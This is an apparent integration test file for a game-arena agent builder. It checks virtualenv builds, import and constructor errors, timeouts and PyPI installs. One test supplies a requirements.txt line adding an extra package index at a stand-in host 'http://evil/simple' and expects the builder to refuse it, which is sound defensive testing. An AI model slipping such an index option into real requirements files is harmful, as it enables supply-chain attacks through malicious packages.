import { spawnSync } from 'node:child_process';
import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { buildAgent } from '../../../src/workers/builds/agent-builder';
import { runMatch } from '../../../src/workers/matches/match-runner';
import { buildZip } from '../../unit/arena/zip-fixtures';
import { describeSandbox, engine, EXAMPLES_DIR, leftoverProcesses, removeScratchDirs, scratchDir, testUidPool, trackingAgent } from '../sandbox/sandbox-test-support';

/** Whether the package index answers from here (pip installs need it; an empty requirements.txt does not). */
function packageIndexReachable(): boolean {
  const probe = spawnSync(process.execPath, ['-e', "fetch('https://pypi.org/simple/six/', { signal: AbortSignal.timeout(5000) }).then(r => process.exit(r.ok ? 0 : 1), () => process.exit(1))"], { timeout: 8000 });
  return probe.status === 0;
}
const withPackageIndex = packageIndexReachable();
if (!withPackageIndex) process.stdout.write('SKIPPED: pypi.org is not reachable: the pip install test is skipped\n');

const zip = (agentPy: string, requirements: string) => buildZip([
  { name: 'agent.py', content: agentPy },
  { name: 'requirements.txt', content: requirements },
]);

describeSandbox('agent builder: virtualenv, requirements, sandboxed import check', () => {
  afterEach(async () => {
    expect(await leftoverProcesses()).toEqual([]);
    removeScratchDirs();
  });

  const build = (submissionId: string, archive: Buffer, timeoutMs = 120_000) => {
    const dataDir = scratchDir();
    return buildAgent({ submissionId, archive, environmentId: 'pong', buildsDir: join(dataDir, 'builds'), dataDir, timeoutMs, engine, uidPool: testUidPool });
  };

  it('builds an agent without requirements in a venv without pip, and the built agent plays', async () => {
    const outcome = await build('s-tracker', zip(readFileSync(join(EXAMPLES_DIR, 'tracking_agent', 'agent.py'), 'utf8'), '# none\n'));
    if (!outcome.ok) throw new Error(`${outcome.reason}\n${outcome.log}`);
    expect(outcome.environmentRef).toBe('venv:builds/s-tracker/venv');
    expect(outcome.log).toContain('no requirements: nothing to install');
    expect(existsSync(outcome.pythonExecutable)).toBe(true);
    expect(existsSync(join(outcome.pythonExecutable, '..', 'pip'))).toBe(false);
    const result = await runMatch({
      environmentId: 'pong',
      environmentOptions: { targetScore: 1 },
      seed: 3,
      agents: [{ id: 'built', dir: outcome.agentDir, pythonExecutable: outcome.pythonExecutable }, trackingAgent],
      engine,
      uidPool: testUidPool,
    });
    expect(result.forfeits).toEqual([]);
  });

  it('fails a build whose agent.py does not import, or has no Agent class, naming the problem', async () => {
    const syntax = await build('s-syntax', zip('class Agent(:\n', ''));
    expect(syntax.ok).toBe(false);
    if (!syntax.ok) expect(syntax.reason).toMatch(/agent check failed \(crashed\).*SyntaxError/s);
    const noClass = await build('s-noclass', zip('AGENT = 1\n', ''));
    if (!noClass.ok) expect(noClass.reason).toContain('agent.py defines no class named Agent');
    const raising = await build('s-raise', zip('class Agent:\n    def __init__(self, o, a):\n        raise RuntimeError("bad weights")\n', ''));
    if (!raising.ok) expect(raising.log).toContain('RuntimeError: bad weights');
    expect([syntax.ok, noClass.ok, raising.ok]).toEqual([false, false, false]);
  });

  it('builds and plays agents written as people write them: Agent() or Agent(observation_space, action_space)', async () => {
    const natural = [
      // The case: a natural class whose __init__ takes nothing (TypeError before).
      'class Agent:\n    def __init__(self):\n        self.moves = 0\n\n    def act(self, observation):\n        self.moves += 1\n        return self.moves % 3\n',
      // No __init__ at all.
      'class Agent:\n    def act(self, observation):\n        return 0\n',
      // The spaces by name, in the other order: passed by keyword.
      'class Agent:\n    def __init__(self, action_space, observation_space):\n        assert action_space["kind"] == "discrete" and observation_space["kind"] == "box"\n\n    def act(self, observation):\n        return 1\n',
    ];
    for (const [i, agentPy] of natural.entries()) {
      const outcome = await build(`s-natural-${i}`, zip(agentPy, ''));
      if (!outcome.ok) throw new Error(`${outcome.reason}\n${outcome.log}`);
      const result = await runMatch({
        environmentId: 'pong',
        environmentOptions: { targetScore: 1 },
        seed: 5,
        agents: [{ id: 'natural', dir: outcome.agentDir, pythonExecutable: outcome.pythonExecutable }, trackingAgent],
        engine,
        uidPool: testUidPool,
      });
      expect(result.forfeits).toEqual([]);
    }
  }, 120_000);

  it('fails a build whose Agent fits neither form, and the log states the rule', async () => {
    const outcome = await build('s-three-args', zip('class Agent:\n    def __init__(self, env, seed, device):\n        pass\n\n    def act(self, observation):\n        return 0\n', ''));
    expect(outcome.ok).toBe(false);
    if (outcome.ok) return;
    expect(outcome.reason).toContain('Agent(env, seed, device) does not fit');
    expect(outcome.log).toContain('Agent(observation_space, action_space) or as Agent()');
    expect(outcome.log).toContain('def __init__(self, observation_space, action_space)');
    // A TypeError raised inside a fitting __init__ stays the agent's own error, not the rule.
    const own = await build('s-own-typeerror', zip('class Agent:\n    def __init__(self):\n        raise TypeError("weights have the wrong shape")\n', ''));
    expect(own.ok).toBe(false);
    if (!own.ok) {
      expect(own.reason).toContain('TypeError: weights have the wrong shape');
      expect(own.log).not.toContain('does not fit');
    }
  });

  it('refuses pip options in requirements.txt before running pip, and times out slow builds', async () => {
    const options = await build('s-options', zip('class Agent: pass\n', '--extra-index-url http://evil/simple\n'));
    expect(options).toMatchObject({ ok: false, reason: 'requirements.txt line 1: pip options are not allowed ("--extra-index-url http://evil/simple")' });
    const slow = await build('s-slow', zip('import time\ntime.sleep(30)\nclass Agent: pass\n', ''), 2_000);
    expect(slow.ok).toBe(false);
    if (!slow.ok) expect(slow.reason).toMatch(/timeout|timed out/);
  });

  (withPackageIndex ? it : it.skip)('installs requirements from the package index into the venv, and the sandboxed agent imports them', async () => {
    const agentPy = 'import six\n\nclass Agent:\n    def __init__(self, o, a):\n        assert six.PY3\n\n    def act(self, observation):\n        return 0\n';
    const outcome = await build('s-six', zip(agentPy, 'six==1.16.0\n'));
    if (!outcome.ok) throw new Error(`${outcome.reason}\n${outcome.log}`);
    expect(outcome.log).toMatch(/Successfully installed six-1\.16\.0/);
    const missing = await build('s-missing', zip(agentPy, ''));
    expect(missing.ok).toBe(false);
    if (!missing.ok) expect(missing.reason).toContain("ModuleNotFoundError: No module named 'six'");
  }, 120_000);
});
